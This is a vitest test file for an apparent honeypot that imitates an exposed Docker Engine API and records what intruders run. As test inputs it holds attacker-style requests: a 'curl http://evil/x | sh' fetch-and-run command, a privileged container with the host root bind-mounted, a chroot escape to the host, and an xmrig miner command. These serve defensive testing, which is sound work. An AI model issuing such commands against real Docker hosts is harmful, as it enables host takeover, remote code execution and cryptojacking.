import {createHash} from 'node:crypto'
import {describe, expect, it} from 'vitest'

import {DEFAULT_LIMITS} from '../../../../src/decoy/limits.ts'
import type {Service} from '../../../../src/decoy/service.ts'
import type {EvidenceEvent, ServiceEvent} from '../../../../src/events/event.ts'
import {recordingOf} from '../../../../src/events/replay/recording.ts'
import {lastKept, wayOf} from '../../../support/kept.ts'
import {eventually} from '../../../support/serve.ts'
import {ask, bodyOf, Client, engineWith, FACTS, jsonOf, requestBytes, statusOf} from './support.ts'

const commandOf = (events: readonly ServiceEvent[], action: string): Readonly<Record<string, unknown>> | undefined =>
  events.find(({event, data}) => event === 'command' && data?.action === action)?.data

const text = (value: unknown): unknown => (value as {text?: string}).text
const texts = (value: unknown): unknown[] => (Array.isArray(value) ? value.map(text) : [])

async function run(
  service: Service,
  body: Record<string, unknown>,
): Promise<{id: string; output: string; status: number}> {
  const {Id: id} = jsonOf<{Id: string}>(ask(service, 'POST /containers/create', {body}))
  const watcher = ask(service, `POST /containers/${id}/attach?stream=1&stdout=1&stderr=1`, {
    headers: ['Connection: Upgrade', 'Upgrade: tcp'],
  })
  const waiter = ask(service, `POST /containers/${id}/wait?condition=next-exit`)
  expect(waiter.reply).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*Transfer-Encoding: chunked\r\n\r\n$/)
  expect(statusOf(ask(service, `POST /containers/${id}/start`))).toBe(204)
  await eventually(() => watcher.closed && waiter.reply.endsWith('\r\n0\r\n\r\n'))
  return {id, output: bodyOf(watcher), status: jsonOf<{StatusCode: number}>(waiter).StatusCode}
}

describe('what an intruder runs', () => {
  it('is recorded: image, command, environment, and whatever leads out of the container', async () => {
    const service = await engineWith()
    const client = ask(service, 'POST /v1.41/containers/create?name=x', {
      body: {
        Image: 'nosuch',
        Cmd: ['sh', '-c', 'curl http://evil/x | sh'],
        Env: ['WALLET=4abc'],
        HostConfig: {Binds: ['/:/mnt'], Privileged: true, NetworkMode: 'host', PidMode: 'host', CapAdd: ['SYS_ADMIN']},
      },
    })
    expect(statusOf(client)).toBe(404)
    const data = commandOf(client.events, 'container.create')
    expect(text(data?.image)).toBe('nosuch')
    expect(texts(data?.command)).toEqual(['sh', '-c', 'curl http://evil/x | sh'])
    expect(texts(data?.environment)).toEqual(['WALLET=4abc'])
    expect(texts(data?.binds)).toEqual(['/:/mnt'])
    expect(data).toMatchObject({privileged: true, dangerous: true})
  })

  it('seems to run, and what it prints is in the attached stream, in frames, and in the logs', async () => {
    const service = await engineWith()
    ask(service, 'POST /images/create?fromImage=alpine')
    const {id, output, status} = await run(service, {Image: 'alpine', Cmd: ['sh', '-c', 'echo hi; exit 3']})
    expect(output).toBe('\x01\0\0\0\0\0\0\x03hi\n')
    expect(status).toBe(3)
    expect(bodyOf(ask(service, `GET /containers/${id}/logs?stdout=1`))).toBe('\x01\0\0\0\0\0\0\x03hi\n')
    const [container] = jsonOf<{Status: string}[]>(ask(service, 'GET /containers/json?limit=1'))
    expect(container?.Status).toMatch(/^Exited \(3\)/)
  })

  it('breaks out to the machine itself where its root is bound', async () => {
    const service = await engineWith()
    ask(service, 'POST /images/create?fromImage=alpine')
    const body = {Image: 'alpine', Cmd: ['chroot', '/host', 'hostname'], HostConfig: {Binds: ['/:/host']}}
    expect((await run(service, body)).output.slice(8)).toBe(`${FACTS.hostname}\n`)
  })

  it('is a shell with a terminal where one is asked for, and each line of it is recorded', async () => {
    const service = await engineWith()
    ask(service, 'POST /images/create?fromImage=alpine')
    const body = {Image: 'alpine', Cmd: ['sh'], Tty: true, OpenStdin: true}
    const {Id: id} = jsonOf<{Id: string}>(ask(service, 'POST /containers/create', {body}))
    const typist = ask(service, `POST /containers/${id}/attach?stream=1&stdin=1&stdout=1`)
    expect(typist.reply).toBe('HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\n\r\n')
    const starter = ask(service, `POST /containers/${id}/start`)
    await eventually(() => typist.reply.endsWith('/ # '))
    typist.send('id\r')
    await eventually(() => typist.reply.includes('uid=0(root)'))
    typist.send('exit 5\r')
    await eventually(() => typist.closed)
    const recording = recordingOf(starter.events as EvidenceEvent[])
    expect(`/ # ${wayOf(recording?.frames ?? [], 'i')}`).toBe('/ # id\rexit 5\r')
    expect(wayOf(recording?.frames ?? [], 'o')).toContain('/ # id\r\nuid=0(root)')
    const lines = starter.events.filter(({data}) => data?.kind === 'shell').map(({data}) => text(data?.line))
    expect(lines).toEqual(['id', 'exit 5'])
    expect(jsonOf<{State: {ExitCode: number}}>(ask(service, `GET /containers/${id}/json`)).State.ExitCode).toBe(5)
  })

  it('goes on without a word where the image brings a program of its own', async () => {
    const service = await engineWith()
    ask(service, 'POST /images/create?fromImage=nosuch/miner&tag=1')
    const create = ask(service, 'POST /containers/create', {
      body: {Image: 'nosuch/miner:1', Cmd: ['xmrig', '-o', 'pool:3333']},
    })
    const {Id: id} = jsonOf<{Id: string}>(create)
    expect(statusOf(ask(service, `POST /containers/${id}/start`))).toBe(204)
    await new Promise((resolve) => setImmediate(resolve))
    expect(bodyOf(ask(service, `GET /containers/${id}/top`))).toContain('xmrig -o pool:3333')
  })

  it('is refused as a real one where a bare image lacks the program', async () => {
    const service = await engineWith()
    ask(service, 'POST /images/create?fromImage=alpine')
    const {Id: id} = jsonOf<{Id: string}>(
      ask(service, 'POST /containers/create', {body: {Image: 'alpine', Cmd: ['xmrig']}}),
    )
    const start = ask(service, `POST /containers/${id}/start`)
    expect(statusOf(start)).toBe(400)
    expect(bodyOf(start)).toContain('exec: \\"xmrig\\": executable file not found in $PATH: unknown')
  })

  it('is kept where it is copied into a container, however long it is', async () => {
    const service = await engineWith()
    const [first] = jsonOf<{Id: string}[]>(ask(service, 'GET /containers/json'))
    const archive = Buffer.alloc(100_000, 'tar ')
    const headers = ['Content-Type: application/x-tar', `Content-Length: ${archive.length}`]
    const client = ask(service, `PUT /v1.41/containers/${first?.Id}/archive?path=%2Ftmp`, {headers}).send(archive)
    expect(statusOf(client)).toBe(200)
    const {left, content} = lastKept(client.events)
    const sha256 = createHash('sha256').update(archive).digest('hex')
    expect(left.data).toMatchObject({path: '/tmp', sha256, size: archive.length})
    expect(content).toEqual(archive.subarray(0, DEFAULT_LIMITS.capture))
  })

  it('in a container that runs already is recorded, and answered', async () => {
    const service = await engineWith()
    const [first] = jsonOf<{Id: string}[]>(ask(service, 'GET /containers/json'))
    const create = ask(service, `POST /containers/${first?.Id}/exec`, {
      body: {Cmd: ['sh', '-c', 'id'], AttachStdout: true},
    })
    expect(texts(commandOf(create.events, 'exec.create')?.command)).toEqual(['sh', '-c', 'id'])
    const start = ask(service, `POST /exec/${jsonOf<{Id: string}>(create).Id}/start`, {body: {Detach: false}})
    await eventually(() => start.closed)
    expect(start.reply).toContain('uid=0(root) gid=0(root)')
  })

  it('forgets the oldest of what intruders made, never what was there', async () => {
    const service = await engineWith()
    const before = jsonOf<unknown[]>(ask(service, 'GET /containers/json?all=1')).length
    for (let made = 0; made < 60; made++) ask(service, `POST /containers/create?name=c${made}`, {body: {Cmd: ['id']}})
    const after = jsonOf<{Names: string[]}[]>(ask(service, 'GET /containers/json?all=1'))
    expect(after).toHaveLength(before + 16)
    expect(after.map(({Names}) => Names[0])).toContain('/c59')
  })
})

describe('credentials', () => {
  it('of a registry are recorded once, from a login and from a pull', async () => {
    const service = await engineWith()
    const login = ask(service, 'POST /auth', {body: {username: 'bob', password: 'hunter2'}})
    const attempts = login.events.flatMap(({credential}) => (credential === undefined ? [] : [credential]))
    expect(attempts).toMatchObject([
      {principal: 'bob', method: 'registry', secret: {text: 'hunter2'}, outcome: 'failure'},
    ])
    const header = Buffer.from(JSON.stringify({username: 'ci', password: 's3cret'})).toString('base64')
    const pull = ask(service, 'POST /images/create?fromImage=a/b', {headers: [`X-Registry-Auth: ${header}`]})
    expect(pull.events.find(({credential}) => credential !== undefined)?.credential).toMatchObject({principal: 'ci'})
  })
})

describe('a connection', () => {
  it('says no more at once than a slow reader may keep waiting, and the rest when it has read', async () => {
    const service = await engineWith()
    const client = new Client(service)
    const many = Buffer.concat(Array.from({length: 400}, () => requestBytes('GET /info')))
    const atOnce = client.session.feed(many).flatMap((action) => (action.type === 'write' ? [action.data.length] : []))
    expect(atOnce.reduce((sum, size) => sum + size, 0)).toBeLessThan(300 * 1024)
    const patient = new Client(service).send(many)
    await eventually(() => patient.reply.split('HTTP/1.1 200 OK').length === 401)
  })

  it('has TLS on the port that is wanted, and on no other', async () => {
    const service = await engineWith({tls: true, tls_port: 3376})
    expect(service.tcp?.(3376)).toHaveProperty('tls')
    expect(service.tcp?.(2375)).not.toHaveProperty('tls')
  })
})

describe('the machine', () => {
  const facing = async (seed: string, ip: string): Promise<string> => {
    const service = await engineWith({}, {seed: seed.repeat(32), ip, hostname: `h${seed}`})
    return ['/info', '/containers/json', '/images/json', '/networks']
      .map((path) => bodyOf(ask(service, `GET ${path}`)))
      .join('')
  }

  it('has ids of its own, and the same after a restart', async () => {
    const [one = '', other = '', again = ''] = [
      await facing('1a', '10.0.0.1'),
      await facing('2b', '10.0.0.2'),
      await facing('1a', '10.0.0.1'),
    ]
    const ids = (text: string): Set<string> => new Set(text.match(/[0-9a-f]{64}|(?:[A-Z2-7]{4}:){11}[A-Z2-7]{4}/g))
    expect([...ids(one)].filter((id) => ids(other).has(id))).toEqual([])
    expect(ids(one).size).toBeGreaterThan(8)
    expect(ids(again)).toEqual(ids(one))
    expect(one).not.toContain('FAKE')
  })

  it('claims the release of its distribution, or the one that is wanted', async () => {
    const versionOf = async (options: Record<string, string>, distro: string): Promise<string> =>
      jsonOf<{Version: string}>(ask(await engineWith(options, {distro}), 'GET /version')).Version
    expect(await versionOf({}, 'debian')).toBe('20.10.24+dfsg1')
    expect(await versionOf({}, 'ubuntu22')).toBe('26.1.3')
    expect(await versionOf({version: '26.1.5+dfsg1'}, 'debian')).toBe('26.1.5+dfsg1')
  })

  it('has images of the wanted registry, and none where it shall be empty', async () => {
    const named = ask(await engineWith({registry: 'hub.intra:5000'}), 'GET /images/json')
    expect(bodyOf(named)).toContain('"hub.intra:5000/')
    expect(bodyOf(ask(await engineWith({containers: false}), 'GET /containers/json?all=1'))).toBe('[]\n')
  })

  it('keeps passwords in the environment of its containers, another on each machine', async () => {
    const passwords = async (seed: string): Promise<string | undefined> => {
      const service = await engineWith({}, {seed: seed.repeat(32)})
      const containers = jsonOf<{Id: string}[]>(ask(service, 'GET /containers/json'))
      const all = containers.map(({Id}) => bodyOf(ask(service, `GET /containers/${Id}/json`))).join('')
      return /POSTGRES_PASSWORD=([^"]+)"/.exec(all)?.[1]
    }
    const [one, other] = [await passwords('1a'), await passwords('2b')]
    expect(one).toMatch(/^\w+!$/)
    expect(one).not.toBe(other)
  })

  it('answers requests that were sent ahead in their order, also after a body in pieces', async () => {
    const client = new Client(await engineWith()).send(
      Buffer.concat([
        requestBytes('POST /images/create?fromImage=alpine'),
        requestBytes('GET /_ping'),
        requestBytes('GET /'),
      ]),
    )
    expect(client.reply).toMatch(/Downloaded[\s\S]*\r\n0\r\n\r\nHTTP\/1\.1 200 OK[\s\S]*OKHTTP\/1\.1 404 Not Found/)
  })

  it('goes on with HTTP after somebody waited', async () => {
    const service = await engineWith()
    const [first] = jsonOf<{Id: string}[]>(ask(service, 'GET /containers/json'))
    const waiter = ask(service, `POST /containers/${first?.Id}/wait`).send(requestBytes('GET /_ping'))
    expect(waiter.reply.endsWith('\r\n\r\n')).toBe(true)
    ask(service, `POST /containers/${first?.Id}/kill`)
    await eventually(() => waiter.reply.endsWith('OK'))
    expect(waiter.reply).toContain('"StatusCode":137')
  })
})
